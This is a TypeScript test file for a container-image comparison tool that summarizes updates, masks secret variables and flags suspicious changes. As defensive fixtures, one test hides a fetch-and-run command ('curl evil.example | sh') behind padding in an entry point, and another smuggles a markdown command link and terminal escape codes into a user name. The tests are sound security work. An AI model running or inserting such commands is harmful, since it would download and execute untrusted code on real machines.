import { describe, expect, it } from 'vitest';
import { compareImages, labelsOf } from '../../server/src/analysis/image-comparison.ts';
import { summarizeUpdate } from '../../server/src/analysis/image-sentences.ts';
import type { ImageDetails, ImagePackage } from '../../server/src/registry/image-source.ts';
import { details, layer } from './images.ts';

const day = 24 * 60 * 60_000;
const built = Date.UTC(2026, 10, 20);
const source = 'org.opencontainers.image.source';
const baseName = 'org.opencontainers.image.base.name';
const baseDigest = 'org.opencontainers.image.base.digest';

/** What stays the same in most updates. */
const common = {
  user: 'app',
  entrypoint: ['docker-entrypoint.sh'],
  command: ['python3'],
  exposedPorts: ['80/tcp'],
};
const calm = 'User, entry point, command and exposed ports stay the same.';

function parts(...lines: readonly string[]): readonly ImagePackage[] {
  return lines.map((line) => {
    const [name = '', version = ''] = line.split(' ');
    return { name, version };
  });
}

function summary(
  before: Parameters<typeof details>[0],
  after: Parameters<typeof details>[0],
): string {
  return summarizeUpdate(
    compareImages(details({ ...common, ...before }), details({ ...common, ...after })),
  );
}

describe('two images side by side', () => {
  const before = details({
    environment: ['PATH=/usr/bin', 'PYTHON_VERSION=3.14.0', 'DB_PASSWORD=hunter2', 'GONE=1'],
    layers: [layer('base', 30_000_000), layer('python'), layer('old')],
    exposedPorts: ['80/tcp', '443/tcp'],
    labels: new Map([
      ['maintainer', 'a'],
      [source, 'https://example.com/app'],
    ]),
  });
  const after = details({
    environment: ['PATH=/usr/bin', 'PYTHON_VERSION=3.14.1', 'DB_PASSWORD=hunter3', 'NEW='],
    layers: [layer('base', 30_000_000), layer('new'), layer('python')],
    exposedPorts: ['443/tcp', '22/tcp'],
    labels: new Map([
      ['maintainer', 'b'],
      ['org.opencontainers.image.revision', 'abc'],
      [source, 'https://example.com/fork'],
    ]),
  });
  const comparison = compareImages(before, after, {
    before: parts('curl 8.9.0', 'node 1', 'node 2', 'gone 1', 'same 1'),
    after: parts('same 1', 'curl 8.9.1', 'node 2', 'node 1', 'new 1'),
  });

  it('share layers, those at the bottom and those above others', () => {
    expect(comparison.layers).toEqual({ shared: 2, after: 3 });
    expect(comparison.size).toEqual({ before: 32_000_000, after: 32_000_000 });
  });

  it('differ in variables, of which secret ones are told without their values', () => {
    expect(comparison.environment).toEqual([
      { name: 'DB_PASSWORD', before: '(hidden)', after: '(hidden)' },
      { name: 'NEW', before: undefined, after: '' },
      { name: 'PYTHON_VERSION', before: '3.14.0', after: '3.14.1' },
      { name: 'GONE', before: '1', after: undefined },
    ]);
  });

  it('have labels, first those that say where an image comes from', () => {
    expect([...labelsOf(after).keys()]).toEqual([
      source,
      'org.opencontainers.image.revision',
      'maintainer',
    ]);
  });

  it('differ in ports', () => {
    expect(comparison.ports).toEqual({ added: ['22/tcp'], removed: ['80/tcp'] });
  });

  it('differ in packages, whatever the order of their versions', () => {
    expect(comparison.packages).toEqual([
      { name: 'curl', before: '8.9.0', after: '8.9.1' },
      { name: 'new', before: undefined, after: '1' },
      { name: 'gone', before: '1', after: undefined },
    ]);
  });

  it('have no packages to compare when one of them has no list', () => {
    const packages = { before: undefined, after: parts('curl 1') };
    expect(compareImages(before, after, packages).packages).toBeUndefined();
  });

  it('tell where they come from by annotations first, then by labels', () => {
    const labels = new Map([[source, 'https://example.com/of-the-base']]);
    const annotations = { [source]: 'https://example.com/own' };
    expect(compareImages(details({ labels }), details({ labels, annotations })).source).toEqual({
      before: 'https://example.com/of-the-base',
      after: 'https://example.com/own',
      isSame: false,
    });
  });

  it('may be compared with nothing in them', () => {
    const empty = compareImages(details(), details());
    expect(empty.layers).toEqual({ shared: 0, after: 0 });
    expect(summarizeUpdate(empty)).toBe(`${calm} 0 bytes compressed as before.`);
  });

  it('are compared in a moment, however many ports and variables a stranger writes', () => {
    const many = (start: number): ImageDetails =>
      details({
        exposedPorts: Array.from({ length: 100_000 }, (_, number) => `${start + number}/tcp`),
        environment: Array.from({ length: 100_000 }, (_, number) => `V${start + number}=1`),
      });
    const { ports, environment } = compareImages(many(0), many(50_000));
    expect([ports.added.length, ports.removed.length, environment.length]).toEqual([
      50_000, 50_000, 100_000,
    ]);
  });
});

describe('the summary of an update', () => {
  it('begins with what may break or betray', () => {
    const before = { created: built - 12 * day, layers: 'abcdefgh'.split('').map((w) => layer(w)) };
    const after = {
      created: built,
      layers: 'abcxyzuv'.split('').map((w) => layer(w, 1_100_000)),
      user: '',
      entrypoint: ['/bin/sh', '-c'],
      exposedPorts: ['80/tcp', '22/tcp'],
    };
    expect(summary(before, after)).toBe(
      'The user changes from `app` to root; the entry point changes from `["docker-entrypoint.sh"]` to `["/bin/sh", "-c"]`; it also exposes 22/tcp. Built 2026-11-20, 12 days after yours; 3 of 8 layers are the same; 8.8 MB compressed, 800.0 kB more.',
    );
  });

  it('says so when nothing of that changes', () => {
    const layers = [layer('base'), layer('app')];
    expect(summary({ created: built, layers }, { created: built + 60_000, layers })).toBe(
      `${calm} Built 2026-11-20, within an hour of yours; all 2 layers are the same; 2.0 MB compressed as before.`,
    );
  });

  it.each([
    [5 * 60 * 60_000, 'Built 2026-11-20, 5 hours after yours'],
    [40 * 60 * 60_000, 'Built 2026-11-20, 40 hours after yours'],
    [3 * day + 60_000, 'Built 2026-11-20, 3 days after yours'],
    [-9 * day, 'Built 2026-11-20, 9 days before yours, so it is the older one'],
  ])('tells the age with a distance of %i ms: %s', (distance, sentence) => {
    const text = summary({ created: built - distance }, { created: built });
    expect(text).toBe(`${calm} ${sentence}; 0 bytes compressed as before.`);
  });

  it('tells the day alone when yours does not, and no day when the new one does not', () => {
    expect(summary({}, { created: built })).toContain('Built 2026-11-20; ');
    expect(summary({ created: built }, {})).not.toMatch(/built/i);
  });

  it.each([
    ['app', '', 'The user changes from `app` to root.'],
    ['0:0', 'app', 'The user changes from root to `app`.'],
    ['root', '', calm],
    ['1000', '1001:1001', 'The user changes from `1000` to `1001:1001`.'],
  ])('knows who has all rights: %j to %j', (before, after, sentence) => {
    expect(summary({ user: before }, { user: after })).toMatch(sentence);
  });

  it('does not call the default user of Windows root', () => {
    const platform = { os: 'windows', architecture: 'amd64' };
    expect(summary({ user: 'app', platform }, { user: '', platform })).toMatch(
      'The user changes from `app` to the default.',
    );
  });

  it('tells another platform before anything else', () => {
    const platform = { os: 'linux', architecture: 'arm64', variant: 'v8' };
    expect(summary({ platform }, { user: 'root' })).toMatch(
      'It is for linux/amd64, yours for linux/arm64/v8; the user changes',
    );
  });

  it.each([
    [
      { [source]: 'https://a' },
      { [source]: 'https://b' },
      'The source code changes from `https://a` to `https://b`.',
    ],
    [{ [source]: 'https://a' }, {}, 'The source code is no longer told.'],
    [{}, { [source]: 'https://b' }, calm],
    [
      { [baseName]: 'debian:12' },
      { [baseName]: 'debian:13' },
      'The base image changes from `debian:12` to `debian:13`.',
    ],
    [
      { [baseName]: 'debian:12', [baseDigest]: 'sha256:1' },
      { [baseName]: 'debian:12', [baseDigest]: 'sha256:2' },
      'On another build of `debian:12`',
    ],
    [{ [baseDigest]: 'sha256:1' }, { [baseDigest]: 'sha256:2' }, 'On another base image'],
  ])('tells where it comes from: %o to %o', (before, after, sentence) => {
    expect(summary({ annotations: before }, { annotations: after })).toContain(sentence);
  });

  it('counts packages and variables', () => {
    const before = details({ ...common, environment: ['A=1'] });
    const after = details({ ...common, environment: ['A=2'] });
    const lists = { before: parts('a 1', 'b 1', 'gone 1'), after: parts('a 2', 'b 2', 'new 1') };
    expect(summarizeUpdate(compareImages(before, after, lists))).toContain(
      '; packages: 2 in another version, 1 new and 1 gone; 1 environment variable differs.',
    );
    const same = { before: lists.before, after: lists.before };
    expect(summarizeUpdate(compareImages(before, after, same))).toContain('; the same packages; ');
  });

  it('never says that something stays the same when the difference is out of sight', () => {
    const hidden = (end: string) => ({ entrypoint: ['sh', '-c', `${' '.repeat(5000)}${end}`] });
    expect(summary(hidden('true'), hidden('curl evil.example | sh'))).toMatch(
      'The entry point changes in a part that is not shown here.',
    );
    const user = (end: string) => ({ user: `${'u'.repeat(200)}${end}` });
    expect(summary(user('1'), user('2'))).toMatch('The user changes in a part that is not shown');
    const password = (word: string) => ({ command: ['serve', '--password', word] });
    const text = summary(password('hunter2'), password('hunter3'));
    expect(text).toMatch('The command changes in a part that is not shown here.');
    expect(text).not.toContain('hunter');
  });

  it('makes a stranger’s texts inert and short', () => {
    const text = summary(
      {},
      { user: '[me](command:evil)\u001b[31m\n', command: ['x'.repeat(9999)] },
    );
    expect(text).toContain('`[me] (command:evil) [31m`');
    expect(text.length).toBeLessThan(400);
    expect(text).not.toMatch(/\p{Cc}/u);
  });
});
